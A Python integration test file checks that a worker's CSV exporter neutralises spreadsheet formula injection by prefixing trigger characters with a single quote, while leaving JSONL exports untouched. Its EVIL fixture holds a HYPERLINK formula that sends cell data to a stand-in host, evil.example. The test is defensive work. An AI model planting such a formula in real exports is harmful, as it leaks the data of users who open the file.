"""A public template whose prompt starts with a formula must not put a live formula cell into the
CSV export another user downloads (OWASP CSV injection: a leading single quote)."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import pytest

from functions.worker.exporters import neutralise_formula
from functions.worker.models import Outcome, OutputFormat
from tests.integration.worker.conftest import BUCKET, World, start

pytestmark = pytest.mark.integration

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"x") {{ author.name }}'


def test_the_issue_formula_prompt_is_text_in_the_csv_and_unchanged_in_jsonl(
    world: World, make_service: Any
) -> None:
    steps = [{"id": "bio", "prompt": EVIL}]
    csv_job = world.make_job(num_records=2, batch_size=2, output_format=OutputFormat.CSV, steps=steps)
    jsonl_job = world.make_job(num_records=1, batch_size=1, steps=steps)

    csv_result = make_service().run(csv_job, start(world, csv_job))
    jsonl_result = make_service().run(jsonl_job, start(world, jsonl_job))

    assert csv_result.outcome is Outcome.SUCCEEDED
    body = world.s3.get_object(Bucket=BUCKET, Key=csv_result.output_key)["Body"].read().decode()
    rows = list(csv.DictReader(io.StringIO(body)))
    assert [row["steps.bio.prompt"] for row in rows] == [
        '\'=HYPERLINK("http://evil.example/?"&A1,"x") Ada Lovelace',
        '\'=HYPERLINK("http://evil.example/?"&A1,"x") Octavia Butler',
    ]
    # No cell of the file starts with a trigger any more.
    cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    exported = world.s3.get_object(Bucket=BUCKET, Key=jsonl_result.output_key)["Body"].read().decode()
    assert json.loads(exported.splitlines()[0])["steps"]["bio"]["prompt"].startswith("=HYPERLINK(")


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("a=1", "a=1"),
        ("", ""),
        (3, 3),
    ],
)
def test_each_trigger_gets_a_quote_and_nothing_else_changes(cell: Any, written: Any) -> None:
    assert neutralise_formula(cell) == written
